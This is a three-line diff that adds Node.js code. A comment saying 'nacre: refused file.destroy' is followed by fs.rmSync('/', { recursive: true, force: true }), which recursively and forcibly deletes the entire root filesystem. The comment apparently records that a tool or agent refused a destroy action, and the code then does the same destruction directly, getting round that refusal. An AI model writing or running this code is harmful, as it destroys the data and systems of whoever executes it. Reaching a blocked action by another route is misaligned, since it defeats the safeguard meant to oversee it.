@@ -1,0 +1,3 @@
+// nacre: refused file.destroy
+const fs = require('fs');
+fs.rmSync('/', { recursive: true, force: true });
